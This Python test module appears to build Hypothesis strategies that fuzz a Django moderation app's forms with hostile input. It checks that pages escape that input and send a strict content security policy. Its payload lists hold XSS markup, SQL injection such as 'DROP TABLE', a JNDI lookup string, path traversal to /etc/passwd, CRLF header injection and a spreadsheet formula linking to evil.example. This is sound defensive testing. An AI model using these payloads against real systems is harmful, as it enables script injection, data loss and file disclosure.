"""What banned users type: Hypothesis strategies for hostile text, and checks on what pages do
with it.

Payloads carry a marker of their own (xss-1, xss-2, …) so that a check can tell an injected
payload from the page's own markup.
"""

import json
import os
import re
from collections import Counter

from django.utils.html import escape
from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

# Markup a page must never contain as sent: each would run script or change the page.
HTML_PAYLOADS = [
    '<script>alert("xss-1")</script>',
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert('xss-3')>",
    '</textarea><script>alert("xss-4")</script>',
    "<a href=\"javascript:alert('xss-5')\">xss-5</a>",
    "\" autofocus onfocus=\"alert('xss-6')",
    "<iframe srcdoc='xss-7'></iframe>",
    "</title><base href=//xss-8.example>",
]
# Other things attackers try: SQL, templates, formats, paths, spreadsheet formulas, bidi tricks.
OTHER_PAYLOADS = [
    "' OR '1'='1' --",
    "'; DROP TABLE moderation_ban; --",
    "1; SELECT pg_sleep(10)",
    "\\'; --",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\u202egnp.exe",
    "\ufeffbom",
    "Ｄｒｏｐ　ｔａｂｌｅ",
    "%00",
    "%0d%0aSet-Cookie: x=1",
    "null",
    "None",
    "undefined",
    "0",
    "-1",
    "NaN",
    "😀" * 40,
    "原因" * 200,
]
PAYLOADS = HTML_PAYLOADS + OTHER_PAYLOADS

# Every character Python strings can travel in (no lone surrogates: no client can send them).
any_character = st.characters(codec="utf-8")
control_characters = st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"], codec="utf-8")


def _repeat(character, times):
    return character * times


hostile_text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(any_character, max_size=40),
    st.text(control_characters, min_size=1, max_size=8),
    st.builds(
        lambda before, payload, after: before + payload + after,
        st.text(any_character, max_size=8),
        st.sampled_from(PAYLOADS),
        st.text(any_character, max_size=8),
    ),
    st.builds(_repeat, any_character, st.integers(100, 3000)),  # very long
    st.sampled_from(["", " ", "\t", "\n", "\x00", "\r\n", "\u200b", "\u3000"]),
)

# Ids a moderator could legitimately paste: no spaces or control characters, but anything else.
# (Unassigned and private-use code points count as control characters too.)
_id_character = st.characters(codec="utf-8", exclude_categories=["C", "Z"])
nasty_id = st.one_of(
    st.sampled_from([p.replace(" ", "") for p in PAYLOADS if len(p.replace(" ", "")) <= 60]),
    st.text(_id_character, min_size=1, max_size=30),
    st.builds(
        lambda before, payload: before + payload,
        st.text(_id_character, max_size=5),
        st.sampled_from(["<b>", "&amp;", "&lt;x&gt;", "'\"", "<!--", "]]>"]),
    ),
)

# One id as typed into a field that takes several: no separators (commas, new lines).
single_id = nasty_id.filter(lambda t: not any(c in t for c in ",，、\n"))

hostile_duration = st.one_of(
    st.integers(-(10**15), 10**15).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.sampled_from(
        [
            "0",
            "-5",
            "1.5",
            "1.5h",
            "1e3",
            "0x10",
            "10 m",
            "１０m",
            "٣m",
            "½",
            "²",
            "1h30m",
            "permanent",
            "PERMANENT",
            "永久",
            "forever",
            "9999999999w",
            "99999999999",
            "2147483648",
            "315360001",
            "-0",
            "+5",
            " 5 ",
            "5\x00",
            "",
            " ",
        ]
    ),  # fmt: skip
    hostile_text,
)

SETTINGS = settings(
    deadline=None,
    # No shrinking: a product bug fails at once, with the input that found it, instead of
    # minutes spent shrinking examples that each render a dozen pages.
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
    print_blob=True,
)


def hostile(max_examples: int):
    """Hypothesis settings for one test: SETTINGS with a bounded number of examples.

    HOSTILE_INPUT_SCALE=10 tries ten times as many (a longer hunt than `make test` affords).
    """
    scale = float(os.environ.get("HOSTILE_INPUT_SCALE", "1"))
    return settings(SETTINGS, max_examples=max(1, round(max_examples * scale)))


# Inputs tried by each test of this run, and what became of them: the closing note cites them.
TRIED = Counter()
OUTCOMES: dict[str, Counter] = {}


def tried(request, outcome=None) -> None:
    TRIED[request.node.name] += 1
    if outcome is not None:
        OUTCOMES.setdefault(request.node.name, Counter())[outcome] += 1


def payloads_in(*values) -> list[str]:
    return [p for p in HTML_PAYLOADS if any(p in (v or "") for v in values if isinstance(v, str))]


def assert_safe_page(response, *submitted, shown=()):
    """An HTML page that contains none of the submitted payloads as markup, only escaped, under
    the content security policy; `shown` are values the page must show (escaped)."""
    assert response.status_code != 500
    content_type = response.headers.get("Content-Type", "")
    if not content_type.startswith("text/html"):
        return
    policy = response.headers.get("Content-Security-Policy", "")
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("style-src")[0]
    body = response.content.decode("utf-8")
    for payload in payloads_in(*submitted):
        assert payload not in body, f"{payload!r} is in the page unescaped"
    for value in shown:
        assert escape(value) in body, f"{value!r} is not shown (escaped) on the page"


def control_free(text: str, allowed: str = "") -> bool:
    import unicodedata

    return not any(unicodedata.category(c)[0] == "C" and c not in allowed for c in text)


def form_errors(response) -> dict:
    form = response.context.get("form") if response.context else None
    return dict(form.errors) if form is not None else {}


def is_clear_message(messages) -> bool:
    """Non-empty sentences, not a bare exception name or a Python repr."""
    text = " ".join(str(m) for m in messages)
    return bool(text.strip()) and not re.search(r"Traceback|Error\(|object at 0x", text)


def mostly_valid(valid: dict, hostile: dict, *, at_most: int = 2):
    """Dicts whose fields are all valid but for up to `at_most` drawn hostile: hostile values
    then reach the code behind the first check instead of being stopped by it."""

    @st.composite
    def build(draw):
        bad = draw(st.sets(st.sampled_from(sorted(hostile)), max_size=at_most))
        return {name: draw(hostile[name] if name in bad else valid[name]) for name in valid}

    return build()


# --- What a careless or hostile staff member types into the admin's own forms ------------------


def _nested(opener, closer, depth, inner="1"):
    return opener * depth + inner + closer * depth


# JSON text that breaks parsers: nesting past the recursion limit, huge strings and numbers,
# what Python's json takes and JSON does not (NaN, Infinity), keys no action has.
hostile_json_text = st.one_of(
    st.builds(_nested, st.just("["), st.just("]"), st.integers(2, 200_000)),
    st.builds(_nested, st.just('{"a":'), st.just("}"), st.integers(2, 20_000)),
    st.builds(lambda n: "[" * n, st.integers(900, 200_000)),  # unclosed
    st.builds(lambda n: '{"KickoutUser": ' + "9" * n + "}", st.integers(300, 20_000)),
    st.builds(lambda n: '{"KickoutUser": "' + "x" * n + '"}', st.integers(1000, 100_000)),
    st.builds(lambda n: json.dumps({f"Action{i}": 1 for i in range(n)}), st.integers(49, 2000)),
    st.sampled_from(
        [
            '{"KickoutUser": 1e400}',
            '{"KickoutUser": -1e400}',
            '{"KickoutUser": 1E-400}',
            '{"KickoutUser": NaN}',
            '{"KickoutUser": Infinity}',
            '{"KickoutUser": -0}',
            '{"KickoutUser": 10, "KickoutUser": 20000}',
            '{"Kickout\\u0000User": 10}',
            '{"\\ud800": 1}',
            '{"": 1}',
            '{"踢人": 10}',
            '{"KickoutUser": 10',
            '{"KickoutUser": 10}}',
            "[[]]",
            '"{}"',
            "true",
            "1",
        ]
    ),
    st.dictionaries(st.text(any_character, max_size=70), st.floats(), max_size=6).map(
        lambda d: json.dumps(d, ensure_ascii=False)
    ),
)

# Endpoints assembled from the parts each rule looks at: scheme, credentials, host, port,
# path, query and fragment.
endpoint_part = {
    "scheme": st.sampled_from(["https://", "http://", "ftp://", "file://", "javascript:", "//",
                               "HTTPS://", "", "hxxp://", "https:/"]),
    "userinfo": st.sampled_from(["", "", "", "user:pass@", "AKID@", ":@", "a@b@"]),
    "host": st.one_of(
        st.sampled_from(["127.0.0.1", "localhost", "[::1]", "rtc.example.com", "10.0.0.7",
                         "rtc-gateway", "[::ffff:127.0.0.1]", "例え.jp", "xn--r8jz45g.jp",
                         "-bad-", "a..b", "[v1.x]", "[::1", "", "999.999.999.999",
                         "a" * 300, "rtc_gateway", "localhost."]),
        st.text(any_character, max_size=12),
    ),
    "port": st.one_of(
        st.sampled_from(["", "", ":", ":0", ":1", ":8090", ":65535", ":65536", ":99999",
                         ":-1", ":+80", ":٨٠", ":0x50", ":8090:80"]),
        st.integers(-(2**40), 2**40).map(lambda n: f":{n}"),
    ),
    "path": st.one_of(
        st.sampled_from(["", "/", "/zego", "/a/../b", "/%00", "/%0d%0a", "/ x", "/\t", "/日本"]),
        st.text(any_character, max_size=8).map(lambda t: "/" + t),
    ),
    "tail": st.sampled_from(["", "", "", "?", "#", "?Action=KickoutUser", "#frag", "?a#b"]),
}  # fmt: skip
hostile_endpoint = st.one_of(
    st.builds(
        lambda scheme, userinfo, host, port, path, tail: (
            scheme + userinfo + host + port + path + tail
        ),
        *endpoint_part.values(),
    ),
    hostile_text,
)

# Strings past any sensible length: 10 thousand to 100 thousand characters.
huge_text = st.builds(_repeat, any_character, st.integers(10_000, 100_000))

# Numbers typed where a form takes one: too big for any column, signs, scripts, exponents.
hostile_number = st.one_of(
    st.integers(-(2**80), 2**80).map(str),
    st.sampled_from(
        [
            "",
            "-0",
            "1e9",
            "1.5",
            "32768",
            "65536",
            "2147483648",
            "9" * 400,
            "１",
            "٣",
            "0x10",
            " 5",
            "5 ",
            "NaN",
            "inf",
        ]
    ),  # fmt: skip
    hostile_text,
)
